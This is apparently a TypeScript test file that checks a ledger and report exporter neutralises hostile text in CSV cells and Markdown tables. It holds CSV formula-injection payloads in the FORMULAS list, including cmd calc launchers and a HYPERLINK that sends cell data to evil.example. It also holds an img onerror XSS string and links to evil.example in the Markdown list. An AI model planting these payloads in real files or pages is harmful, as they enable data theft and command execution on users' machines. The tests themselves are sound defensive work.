import assert from 'node:assert/strict';
import { PassThrough } from 'node:stream';
import MarkdownIt from 'markdown-it';
import { exportLedger, LEDGER_CSV_COLUMNS } from '../../../src/core/report/export';
import { csvField, mdCell, mdCode } from '../../../src/core/report/format';
import { buildReport } from '../../../src/core/report/report';
import { renderReportCsv, renderReportMarkdown } from '../../../src/core/report/render';
import type { LedgerEntry } from '../../../src/core/store/records';
import { randomEntry, seededRandom } from '../../support/ledgerFixtures';
import { openWorkspace, parseCsv, runRecord, tempFolder } from '../report/helpers';

/** Names a hostile repository's workflows or a model could carry into the ledger and the runs. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\uff1d1+1',
];

describe('neutralising run data in exports and reports', () => {
  describe('CSV cells (OWASP CSV injection)', () => {
    it("text that starts with = + - @ tab or CR gets a leading ', and is still read back whole", () => {
      for (const value of FORMULAS) {
        const [[cell]] = parseCsv(`${csvField(value)}\r\n`) as [[string]];
        assert.equal(cell, `'${value}`, JSON.stringify(value));
      }
    });

    it('numbers stay numbers, negative ones too, as numbers or as plain numeric text', () => {
      assert.equal(csvField(-12), '-12');
      assert.equal(csvField(-0.5), '-0.5');
      assert.equal(csvField('-1.500000'), '-1.500000');
      assert.equal(csvField('-42'), '-42');
      assert.equal(csvField('2026-11-22'), '2026-11-22');
      assert.equal(csvField('-1e5'), "'-1e5");
      assert.equal(csvField('-'), "'-");
    });

    it('the ledger export neutralises every text column a repository or a model can name', async () => {
      const rand = seededRandom(3);
      const entries: LedgerEntry[] = FORMULAS.map((f, i) =>
        randomEntry(rand, Date.UTC(2026, 10, 1) + i, {
          id: `e${i}`,
          model: f,
          workflow: f,
          task: f,
          tool: f,
          variant: f,
          requestId: f,
        }),
      );
      const out = new PassThrough();
      let text = '';
      out.on('data', (c: Buffer) => (text += c.toString()));
      await exportLedger(
        {
          *ledgerRows() {
            yield entries;
          },
        },
        out,
        { fromMs: 0, toMs: Number.MAX_SAFE_INTEGER, format: 'csv', timeZone: 'UTC' },
      );
      const [header, ...rows] = parseCsv(text);
      assert.equal(rows.length, FORMULAS.length);
      const col = (name: string) => header!.indexOf(name);
      rows.forEach((row, i) => {
        for (const name of ['model', 'workflow', 'task', 'tool', 'variant', 'request_id'])
          assert.equal(row[col(name)], `'${FORMULAS[i]}`, `${name} of row ${i}`);
        assert.match(row[col('cost_usd')]!, /^\d+\.\d{6}$/, 'money stays numeric');
      });
      assert.deepEqual(header, [...LEDGER_CSV_COLUMNS]);
    });

    it('the report CSV too', async () => {
      const env = tempFolder({ timeZone: 'UTC' });
      const ws = await openWorkspace(env.folder, Date.UTC(2026, 10, 20));
      try {
        const rand = seededRandom(4);
        await ws.store.commit([
          {
            k: 'ledger',
            entry: randomEntry(rand, Date.UTC(2026, 10, 3), { workflow: FORMULAS[0], model: FORMULAS[3] }),
          },
        ]);
        const rows = parseCsv(renderReportCsv(buildReport(ws, { month: '2026-11' }, { now: Date.UTC(2026, 10, 20) })));
        const keys = rows.filter((r) => r[0] === 'workflow' || r[0] === 'model').map((r) => r[1]);
        assert.deepEqual(keys.sort(), [`'${FORMULAS[0]}`, `'${FORMULAS[3]}`].sort());
      } finally {
        await ws.close();
        env.cleanup();
      }
    });
  });

  describe('Markdown', () => {
    // VS Code's Markdown preview is markdown-it with raw HTML and linkify on.
    const md = new MarkdownIt({ html: true, linkify: true });
    const hostile = [
      '[click](https://evil.example/steal)',
      '![x](https://evil.example/pixel.png)',
      '<img src=x onerror=alert(1)>',
      '**bold** _it_ ~~gone~~',
      '# heading',
      'see https://evil.example and www.evil.example',
      '$x^2$ &amp; &#60;',
      'pipe | breaks | cells',
      'line\nbreak\r\nand more',
      '`code` ``more``',
    ];

    it('mdCell renders as its own text: no link, image, HTML, emphasis, heading, math or extra cell', () => {
      for (const text of hostile) {
        const table = md.render(`| a | b |\n| --- | --- |\n| ${mdCell(text)} | end |\n`);
        assert.doesNotMatch(table, /<a |<img|<strong|<em|<s>|<h1|<code/, text);
        assert.equal((table.match(/<td>/g) ?? []).length, 2, `the cell stays one cell: ${text}`);
        const cell = /<td>(.*?)<\/td>/s.exec(table)![1]!;
        const shown = cell
          .replace(/&lt;/g, '<')
          .replace(/&gt;/g, '>')
          .replace(/&quot;/g, '"')
          .replace(/&amp;/g, '&');
        assert.equal(shown, text.replace(/\r\n|\r|\n/g, ' '), 'what is shown is the text itself');
      }
    });

    it('mdCode keeps backticks and pipes inside the span and the cell', () => {
      for (const text of ['a`b', '``x``', 'v1|v2', '`edge`']) {
        const table = md.render(`| a | b |\n| --- | --- |\n| ${mdCode(text)} | end |\n`);
        assert.equal((table.match(/<td>/g) ?? []).length, 2, text);
        assert.equal((table.match(/<code>/g) ?? []).length, 1, text);
      }
    });

    it('the report renders hostile workflow ids, models, tasks, titles, run ids and variants as text', async () => {
      const env = tempFolder({ timeZone: 'UTC' });
      const now = Date.UTC(2026, 10, 20);
      const ws = await openWorkspace(env.folder, now);
      try {
        const rand = seededRandom(5);
        const t = Date.UTC(2026, 10, 3);
        await ws.store.commit([
          runRecord('r`1|x', hostile[0]!, t, { title: hostile[3]!, status: 'completed', variant: 'v`1|[x](y)' }),
          ...hostile.map(
            (h, i) =>
              ({
                k: 'ledger',
                entry: randomEntry(rand, t + i, {
                  workflow: h,
                  model: hostile[(i + 1) % hostile.length],
                  task: hostile[(i + 2) % hostile.length],
                  runId: i === 0 ? 'r`1|x' : `run-${i}`,
                  variant: i === 0 ? 'v`1|[x](y)' : null,
                }),
              }) as const,
          ),
        ]);
        const text = renderReportMarkdown(buildReport(ws, { month: '2026-11' }, { now }));
        const html = md.render(text);
        // The hostile text is shown (escaped) but never becomes an element: no link, image, heading or emphasis.
        assert.match(html, /&lt;img src=x onerror=alert\(1\)&gt;/);
        assert.doesNotMatch(html, /<a\s|<img\s|\shref="|\ssrc="|<h1>heading|<strong>bold|<s>gone|<code>code/);
        // Every table row has as many cells as its header.
        for (const table of html.split('<table>').slice(1)) {
          const head = (/<thead>.*?<\/thead>/s.exec(table)![0].match(/<th[ >]/g) ?? []).length;
          for (const row of table.split('<tbody>')[1]!.split('</tr>').slice(0, -1))
            assert.equal((row.match(/<td/g) ?? []).length, head, row);
        }
      } finally {
        await ws.close();
        env.cleanup();
      }
    });
  });
});
